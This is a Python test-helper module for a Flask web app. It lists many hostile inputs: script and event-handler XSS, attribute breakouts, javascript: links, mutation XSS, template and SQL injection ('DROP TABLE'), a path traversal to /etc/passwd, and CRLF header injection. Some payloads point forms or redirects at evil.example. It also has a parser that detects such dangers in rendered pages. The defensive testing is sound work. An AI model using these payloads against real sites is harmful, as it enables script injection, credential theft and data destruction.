"""Hostile texts, and the eye that sees whether a page let one of them live."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree as ET

from flask.testing import FlaskClient

from tests.conftest import SAME_ORIGIN

FORM = "application/x-www-form-urlencoded"
MARKUP = {
    "script": "<script>alert('xq7')</script>",
    "image with an event": "<img src=x onerror=alert('xq7')>",
    "out of an attribute": "\"><svg onload=alert('xq7')>",
    "out of a quoted attribute": "' onmouseover='alert(`xq7`)' x='",
    "out of a text area": "</textarea><script>alert('xq7')</script>",
    "out of a title": "</title></head><body onload=alert('xq7')>",
    "out of a comment": "--><script>alert('xq7')</script><!--",
    "out of CDATA": "]]><script>alert('xq7')</script>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "form": "<form action=//evil.example><input name=password></form>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=x>",
    "base and refresh": "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "link in Markdown": "[click](javascript:alert('xq7')) ![x](data:text/html,<script>alert(1)</script>)",
    "link with a tab": "[click](java\tscript:alert(1)) <java&#x0A;script:alert(1)>",
    "link with entities": "[x](&#106;avascript&colon;alert%281%29) [y][z]\n\n[z]: vbscript:msgbox",
    "mutating": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "entities": "&lt;script&gt;alert('xq7')&lt;/script&gt; &#60;script&#62;",
    "template": "{{ 7 * 7 }} {% if 1 %}x{% endif %} ${7*7} #{7*7} <%= 7*7 %>",
    "code in a fence": '```html "><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "id and class": "<p id=main class=skip style=position:fixed>hi</p><a id=comments name=body>",
}
TEXTS = {
    "right-to-left override": "\u202ereversed\u202c and \u2066isolated",
    "zalgo": "a" + "\u0301" * 300,
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "control characters": "bell \x07 escape \x1b[31m delete \x7f",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix\rseven",
    "private use": "\ue000\U000f0000",
    "tags": "flag \U000e0067\U000e007f",
    "emoji": "👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e007f",
    "SQL": "'; DROP TABLE comments; -- %s %(x)s :x ?",
    "LIKE": "%_%__\\%",
    "JSON": '{"__proto__": {"x": 1}, "a": [1e999]}',
    "huge number": "9" * 400,
    "paths": "../../../../etc/passwd\\..\\..\\",
    "header": "x\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "deep quotes": "> " * 200 + "deep",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(120)),
    "brackets": "[" * 3000,
    "backticks": "`" * 3000 + "x",
    "emphasis": "*a_" * 1500,
    "look-alikes": "Thаnk yоu fоr thе grеаt pоst",
    "nothing but space": " \u00a0\u3000\u200b\t\n",
    "long word": "x" * 9_000,
}
PAYLOADS = MARKUP | TEXTS
FORBIDDEN_TAGS = frozenset(
    {"iframe", "object", "embed", "base", "style", "math", "noscript", "template", "mglyph"}
)
SCHEMES = frozenset({"", "http", "https", "mailto"})
ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "data", "srcdoc", "poster", "xlink:href"}
)


class Dangers(HTMLParser):
    """Collects everything in a page that could run, lead away, or pretend to be the site's own."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attributes}
        if tag in FORBIDDEN_TAGS or (tag == "svg" and "onload" in given):
            self.found.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.found.append("a script of somebody else")
        if (
            tag == "link"
            and given.get("rel") == "stylesheet"
            and not given["href"].startswith("/static/")
        ):
            self.found.append("a style sheet of somebody else")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("a meta that acts")
        is_dialog = given.get("method") == "dialog"
        if tag == "form" and not is_dialog and not re.match("/(?!/)", given.get("action", "")):
            self.found.append(f"a form to {given.get('action')!r}")
        self.found += [
            f"{tag} {name}" for name in given if name.startswith("on") or name == "style"
        ]
        for name in ADDRESSES & given.keys():
            scheme = re.sub(r"[\x00-\x20]", "", given[name]).partition(":")[0].lower()
            address = re.sub(r"[\x00-\x20]", "", given[name])
            if ":" in address.split("/")[0].split("?")[0].split("#")[0] and scheme not in SCHEMES:
                self.found.append(f"{name}={given[name][:60]}")
        if "id" in given:
            self.ids.append(given["id"])


def dangers(page: str) -> list[str]:
    parser = Dangers()
    parser.feed(page)
    parser.close()
    doubled = {name for name in parser.ids if parser.ids.count(name) > 1}
    return parser.found + [f"id {name} twice" for name in sorted(doubled)]


def looked_at(browser: FlaskClient, path: str, **more: Any) -> str:
    """Open a page that must be there and harmless."""
    answer = browser.get(path, buffered=True, **more)
    assert answer.status_code == 200, (path, answer.status_code)
    if answer.mimetype == "text/html":
        assert dangers(answer.text) == [], path
    else:
        ET.fromstring(answer.data)
    return answer.text


def send(browser: FlaskClient, path: str, data: Any, **headers: str) -> Any:
    answer = browser.post(path, data=data, headers=SAME_ORIGIN | headers, buffered=True)
    assert answer.status_code < 500, (path, answer.status_code)
    if answer.mimetype == "text/html":
        assert dangers(answer.text) == [], path
    assert "\n" not in answer.headers.get("Location", "")
    return answer


def send_raw(browser: FlaskClient, path: str, body: bytes, content_type: str) -> Any:
    return send(browser, path, body, **{"Content-Type": content_type})
